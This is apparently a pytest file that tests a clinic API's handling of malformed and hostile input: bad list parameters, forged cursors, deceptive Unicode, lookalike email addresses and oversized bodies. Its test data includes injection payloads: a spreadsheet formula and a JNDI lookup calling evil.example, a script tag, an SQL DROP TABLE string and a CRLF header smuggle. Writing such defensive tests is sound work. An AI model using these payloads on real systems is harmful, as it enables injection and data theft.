"""The catalogue of bad inputs, items 1 to 43: what is asked, and where it is tested.

Parsing
 1-4   NUL, lone surrogate, depth, duplicate keys    tests/api/test_parser.py
 5     unknown field                                 tests/api/test_fields.py, test_conventions.py
 6, 7  NaN, 1e400, 5,000 digits                      tests/api/test_parser.py
 8-13  flags, numbers, ids, instants, dates          tests/api/test_fields.py
 14    endless durations: every number is bounded    tests/policy/test_contract.py
 15    not an object, nothing at all                 tests/api/test_parser.py, here
 16    not UTF-8                                     tests/api/test_parser.py
 17-21 media types, charset, size, compression       tests/api/test_media.py
 22    two lengths                                   tests/policy/test_server.py
 23    slow body                                     tests/policy/test_server.py
 24    endless headers, many fields                  tests/policy/test_server.py, here
 25-26 method override, TRACE                        tests/api/test_media.py
Text
 27-29 unseen, bidi, CR/LF                           tests/api/test_fields.py, here
 30-31 formulas and markup                           here (there is no CSV to export to)
 32    addresses that look the same                  here
 33    templates                                     here
Identifiers, lists, filters
 34-35 strange ids                                   tests/policy/test_matrix.py
 36-41 limit, offset, order, search, filter, cursor  here, for every list
 42    a uniform 404, recorded                       tests/policy/test_matrix.py
 43    as much work for foreign as for absent        here
"""

import re
from datetime import timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from backend import clock
from backend.accounts.models import User
from backend.kernel.actor import Role
from tests.accounts.person import Person
from tests.callers import Caller
from tests.policy.routes import Route, all_routes, nowhere

pytestmark = pytest.mark.django_db
LISTS = [r for r in all_routes() if r.verb.name == "list"]
HIDDEN_FROM_NOBODY = {"questionnaire_id", "pack_id", "clinic_id"}
READS = [
    r
    for r in all_routes()
    if r.method == "get" and r.parameters and not HIDDEN_FROM_NOBODY & set(r.parameters)
]


def addressed(route: Route, world) -> tuple[str, dict[str, str]]:
    """Where a list is, and what it must be asked for."""
    physician = world.people[Role.PHYSICIAN].ref
    slots = {"physician": physician, "from": "2026-03-12", "to": "2026-03-13"}
    asked = slots if route.verb.thing == "slot" else {}
    return route.path(**world.things.ids_for(route)), asked


def reader_of(route: Route, world) -> Caller:
    return Caller(world.people[min(route.verb.roles - {Role.JOB})])


BAD_PARAMETERS = [
    {"limit": "1000000000"},
    {"limit": "0"},
    {"limit": "-1"},
    {"limit": "٥"},
    {"limit": "9" * 5000},
    {"offset": "-1"},
    {"offset": "9" * 5000},
    {"ordering": "password"},
    {"search": " ".join(["acne"] * 3000)},
    {"_connector": "OR"},
    {"patient__user__email__regex": ".*"},
    {"cursor": "x"},
    {"cursor": "WyJ4Iiwge31d:1vMEcz:forged"},
    {"cursor": "\x00"},
    {"status": "\x00"},
    {"patient": "\x00"},
    {"patient": "9" * 400},
]


@pytest.mark.parametrize("route", LISTS, ids=str)
def test_a_list_is_asked_in_declared_words_only(route, world):
    caller = reader_of(route, world)
    path, asked = addressed(route, world)

    assert caller.get(path, **asked, limit="1").status_code == 200
    for bad in BAD_PARAMETERS:
        answer = caller.get(path, **asked, **bad)

        assert answer.status_code == 400, bad
        assert answer.json()["code"] == "invalid_request", bad
    assert caller.get(path, **asked, limit=["1", "2"]).status_code == 400


def test_a_cursor_is_of_one_list_and_of_one_person_and_lasts_a_day(world):
    clinic = world.clinic
    first = Caller(world.people[Role.PHYSICIAN]).get("/v1/patients", limit="1")
    cursor = first.json()["next_cursor"]

    def status(who, path):
        return Caller(who).get(path, cursor=cursor).status_code

    assert clinic.patients.count() > 1
    assert status(world.people[Role.PHYSICIAN], "/v1/patients") == 200
    assert status(world.people[Role.PHYSICIAN], "/v1/tasks") == 400
    assert status(world.people[Role.CLINIC_STAFF], "/v1/patients") == 400
    assert status(world.strangers[Role.PHYSICIAN][0], "/v1/patients") == 400
    with time_machine.travel(clock.now() + timedelta(hours=25)):
        assert status(world.people[Role.PHYSICIAN], "/v1/patients") == 400


@pytest.mark.parametrize("route", READS, ids=str)
def test_what_is_hidden_costs_as_much_as_what_is_absent(route, world):
    name, real = route.parameters[0], world.things.ids_for(route)
    stranger = Caller(world.strangers[min(route.verb.roles)][0])

    def asked(**ids: str) -> list[str]:
        with CaptureQueriesContext(connection) as queries:
            assert stranger.get(route.path(**ids)).status_code == 404
        values = r"'[^']*'(::\w+)?|NULL|\d+"
        return [re.sub(values, "?", query["sql"]) for query in queries]

    asked(**real)  # from now on the stranger's own account is known
    assert asked(**real) == asked(**{name: nowhere(name)})


def complete(world, body, **how):
    task = world.things.rows["task_id"][0]
    caller = Caller(world.people[Role.PHYSICIAN])
    return caller.post(f"/v1/tasks/{task.ref}/complete", body, version=1, **how)


@pytest.mark.parametrize("raw", ["", "[]", "null", '"x"', "7"])
def test_a_body_is_an_object(raw, world):
    task = world.things.rows["task_id"][0]

    answer = Caller(world.people[Role.PHYSICIAN]).client.generic(
        "POST",
        f"/v1/tasks/{task.ref}/complete",
        raw,
        content_type="application/json",
        HTTP_IDEMPOTENCY_KEY="key-1",
        HTTP_IF_MATCH='"1"',
    )

    assert (answer.status_code, answer.json()["code"]) == (400, "invalid_request")


def test_a_thousand_and_one_fields_are_refused_in_a_short_answer(world):
    answer = complete(world, {f"field_{number}": 1 for number in range(1001)})

    assert answer.status_code == 400
    assert len(answer.content) < 10_000


@pytest.mark.parametrize(
    "text",
    [
        "\u200b\u200d",
        "20 mg\u202e0004",
        "水田 花子\r\nBcc: all@example.test",
        "bell\x07",
        "a\u2028b",
    ],
    ids=ascii,
)
def test_text_that_deceives_is_refused(text, world):
    refused = complete(world, {"outcome": "resolved", "note": text})

    assert (refused.status_code, refused.json()["errors"][0]["pointer"]) == (400, "/note")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example","x")',
        "<script>alert(1)</script>",
        "{{7*7}} ${jndi:ldap://evil.example/a} %s %(x)s {0}",
        "'; DROP TABLE worklist_task; --",
    ],
)
def test_text_stays_text(text, world):
    answer = complete(world, {"outcome": "resolved", "note": text})

    assert (answer.status_code, answer.json()["note"]) == (200, text)
    assert answer["Content-Type"] == "application/json"
    assert answer["X-Content-Type-Options"] == "nosniff"


LOOKALIKES = pytest.mark.parametrize(
    "address",
    [
        "user@ex\u00e4mple.test",  # in one character or in two: one word to the eye
        "user@exa\u0308mple.test",
        "user@ex\u0430mple.test",  # Cyrillic
        "u\u017fer@example.test",  # long s
    ],
    ids=ascii,
)


@LOOKALIKES
def test_nobody_signs_up_under_an_address_that_looks_like_anothers(address, world):
    answer = Person(address).sign_up()

    assert answer.status_code == 400
    assert not User.objects.filter(email=address).exists()


@LOOKALIKES
def test_nobody_is_invited_under_an_address_that_looks_like_anothers(address, world):
    route = next(r for r in all_routes() if r.verb.action == "staff_member.invite")

    answer = Caller(world.people[Role.CLINIC_ADMINISTRATOR]).post(
        route.path(), {**route.body, "email": address}
    )

    assert (answer.status_code, answer.json()["errors"][0]["pointer"]) == (400, "/email")
    assert not User.objects.filter(email=address).exists()


def test_an_address_in_capitals_is_the_same_address(world):
    known = world.people[Role.PATIENT].user.email

    Person(known.upper().replace("K", "\u212a")).sign_up()  # the sign for kelvin becomes k

    assert User.objects.filter(email__iexact=known).count() == 1
